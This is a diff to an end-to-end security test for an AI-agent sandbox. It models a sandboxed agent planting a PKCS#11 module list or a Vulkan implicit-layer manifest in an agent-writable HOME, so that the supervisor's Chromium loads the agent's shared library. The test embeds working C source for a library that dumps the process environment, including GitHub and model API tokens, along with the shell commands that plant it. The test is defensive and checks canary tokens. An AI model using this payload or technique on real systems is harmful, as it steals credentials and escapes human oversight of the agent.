@@ -1,11 +1,14 @@
-// Attack (fails today; passes once fixed): the supervisor's Chromium (the screenshot tool, in the
-// runner container, with the runner's environment) runs with HOME on the agent's volume. Chromium
-// opens its NSS database at $HOME/.pki/nssdb on the first certificate it verifies, and NSS loads
-// every PKCS#11 module that database's pkcs11.txt lists. The agent plants a pkcs11.txt naming a
-// shared library it wrote on the workspace, then asks for a screenshot of an https page on
-// loopback (allowed without asking): the library runs inside the supervisor's Chromium, with the
-// supervisor's uid and environment, and writes that environment (GITHUB_TOKEN, the model key)
-// onto the workspace for the agent.
+// Attack (fails today; passes once fixed): the supervisor's Chromium (the diff pictures and the
+// screenshot tool, in the runner container, with the runner's environment) runs with HOME on the
+// agent's volume, and loads code the agent leaves there:
+// - NSS: on the first certificate it verifies, Chromium opens $HOME/.pki/nssdb, and NSS loads
+//   every PKCS#11 module its pkcs11.txt lists — a screenshot of an https page on loopback (allowed
+//   without asking) is enough;
+// - Vulkan: the loader dlopens every implicit layer a manifest under
+//   $HOME/.local/share/vulkan/implicit_layer.d names — the changes gate's own diff picture is
+//   enough, with no tool of the supervisor's asked for at all.
+// The library runs inside the supervisor's Chromium, with the supervisor's uid and environment,
+// and writes that environment (GITHUB_TOKEN, the model key) onto the workspace for the agent.
 import { execFileSync } from 'node:child_process';
 import { chmodSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:https';
@@ -25,24 +28,24 @@ let e2e: E2E;
 let page: Server;
 let pageUrl: string;
 let tools: string;
+const PHONES = ['+14155550123', '+14155550124'] as const;
 
-/** A library that, once loaded, appends its process's environment and uid to $HOME/chromium-leak.txt. */
+/** A library that, once loaded, appends its uid and environment (as the process holds it) to $HOME/chromium-leak.txt. */
 const MODULE_SOURCE = String.raw`
 #include <fcntl.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <unistd.h>
+extern char **environ;
 __attribute__((constructor)) static void leak(void) {
-  char path[4096], buf[65536];
+  char path[4096];
   const char *home = getenv("HOME");
   if (!home) return;
   snprintf(path, sizeof path, "%s/chromium-leak.txt", home);
   int out = open(path, O_WRONLY | O_CREAT | O_APPEND, 0666);
-  int env = open("/proc/self/environ", O_RDONLY);
-  if (out < 0 || env < 0) return;
+  if (out < 0) return;
   dprintf(out, "uid=%d\n", getuid());
-  for (ssize_t n; (n = read(env, buf, sizeof buf)) > 0;) write(out, buf, n);
-  close(env);
+  for (char **e = environ; *e; e++) dprintf(out, "%s\n", *e);
   close(out);
 }
 `;
@@ -58,36 +61,55 @@ beforeAll(async () => {
   page = createServer({ key: readFileSync(join(tools, 'key.pem')), cert: readFileSync(join(tools, 'cert.pem')) }, (_req, res) => res.end('<h1>dev server</h1>'));
   await new Promise<void>((resolve) => page.listen(0, '127.0.0.1', resolve));
   pageUrl = `https://127.0.0.1:${(page.address() as AddressInfo).port}/`;
-  e2e = await startE2E({ runnerSecrets: { GITHUB_TOKEN: GITHUB_CANARY, ANTHROPIC_API_KEY: ANTHROPIC_CANARY }, podEnv: model.env() });
+  e2e = await startE2E({ runnerSecrets: { GITHUB_TOKEN: GITHUB_CANARY, ANTHROPIC_API_KEY: ANTHROPIC_CANARY }, podEnv: model.env(), numbers: [...PHONES] });
 }, 90_000);
 afterAll(async () => {
   page?.close();
   await e2e?.stop();
 });
 
-describe('attack: a PKCS#11 module planted in the agent-writable HOME of the supervisor\'s Chromium', () => {
-  it('a screenshot of an https loopback page loads no library of the agent\'s and leaks no canary onto the workspace', { timeout: 180_000 }, async () => {
-    // The agent writes the library (it could as well be committed in the repository) and the NSS module list.
-    const plant = [
-      'mkdir -p "$HOME/.pki/nssdb"',
-      `cp ${join(tools, 'leak.so')} "$HOME/.pki/leak.so"`,
-      'printf "library=%s\\nname=leak\\n\\n" "$HOME/.pki/leak.so" > "$HOME/.pki/nssdb/pkcs11.txt"',
-      'chmod -R a+rX "$HOME/.pki"',
-    ].join(' && ');
-    const phone = e2e.phone('+14155550123');
-    await phone.send(`script:\ntool: Bash ${JSON.stringify({ command: plant })}\n`
+/** The agent's first step: the library on the workspace (it could as well be committed in the repository). */
+const copyLibrary = () => `mkdir -p "$HOME/.pki" && cp ${join(tools, 'leak.so')} "$HOME/.pki/leak.so" && chmod -R a+rX "$HOME/.pki"`;
+
+/** Sends the script, allows the Bash call, waits for the review; returns the Session's workspace on this node. */
+async function runToReview(number: string, script: string): Promise<string> {
+  const phone = e2e.phone(number);
+  await phone.send(script);
+  await phone.next(/🔐/);
+  await phone.send('allow');
+  await phone.next(/Reply \*approve\*/);
+  const session = (await e2e.list()).find((s) => s.spec.phone === number)!;
+  return join(e2e.stateDir, 'volumes', e2e.stack.runnerNamespace, session.spec.workspace);
+}
+
+function expectNoLeak(workspace: string): void {
+  const found = filesContaining(workspace, [GITHUB_CANARY, ANTHROPIC_CANARY]);
+  const leak = join(workspace, 'home/chromium-leak.txt');
+  const said = existsSync(leak) ? readFileSync(leak, 'latin1').replace(/\0/g, '\n').split('\n').filter((l) => /^(uid|HOME|TETHER_SESSION_NAME|GITHUB|ANTHROPIC)/.test(l)).join(' ') : '';
+  expect({ leakFile: existsSync(leak), canariesIn: found }, said).toEqual({ leakFile: false, canariesIn: [] });
+}
+
+describe('attack: libraries planted in the agent-writable HOME of the supervisor\'s Chromium', () => {
+  it('a PKCS#11 module in $HOME/.pki/nssdb: a screenshot of an https loopback page loads nothing of the agent\'s and leaks no canary', { timeout: 180_000 }, async () => {
+    const plant = `${copyLibrary()} && mkdir -p "$HOME/.pki/nssdb" && printf "library=%s\\nname=leak\\n\\n" "$HOME/.pki/leak.so" > "$HOME/.pki/nssdb/pkcs11.txt"`;
+    const workspace = await runToReview(PHONES[0], `script:\ntool: Bash ${JSON.stringify({ command: plant })}\n`
       + `tool: mcp__tether__screenshot ${JSON.stringify({ url: pageUrl, caption: 'the dev server' })}\n`
       + 'write: note.txt = a change to review\nsay: planted the module');
-    await phone.next(/🔐/);
-    await phone.send('allow');
-    await phone.next(/Reply \*approve\*/);
-
-    const [session] = await e2e.list();
-    const workspace = join(e2e.stateDir, 'volumes', e2e.stack.runnerNamespace, session!.spec.workspace);
     // The plant is in place: a fixed runner must have been offered it and refused it.
     expect(readFileSync(join(workspace, 'home/.pki/nssdb/pkcs11.txt'), 'utf8')).toContain('leak.so');
-    const leaked = join(workspace, 'home/chromium-leak.txt');
-    const found = filesContaining(workspace, [GITHUB_CANARY, ANTHROPIC_CANARY]);
-    expect({ leakFile: existsSync(leaked), canariesIn: found }).toEqual({ leakFile: false, canariesIn: [] });
+    expectNoLeak(workspace);
+  });
+
+  it('a Vulkan implicit layer in $HOME/.local/share: the changes gate\'s diff picture loads nothing of the agent\'s and leaks no canary', { timeout: 180_000 }, async () => {
+    const manifest = JSON.stringify({ file_format_version: '1.0.0', layer: {
+      name: 'VK_LAYER_leak', type: 'GLOBAL', library_path: 'LIBRARY', api_version: '1.3.0', implementation_version: '1', description: 'leak',
+      disable_environment: { DISABLE_LEAK: '1' },
+    } });
+    const layers = '"$HOME/.local/share/vulkan/implicit_layer.d"';
+    const plant = `${copyLibrary()} && mkdir -p ${layers} && printf '%s' '${manifest}' | sed "s#LIBRARY#$HOME/.pki/leak.so#" > ${layers}/leak.json`;
+    const workspace = await runToReview(PHONES[1], `script:\ntool: Bash ${JSON.stringify({ command: plant })}\n`
+      + 'write: note.txt = a change to review\nsay: planted the layer');
+    expect(readFileSync(join(workspace, 'home/.local/share/vulkan/implicit_layer.d/leak.json'), 'utf8')).toContain('leak.so');
+    expectNoLeak(workspace);
   });
 });
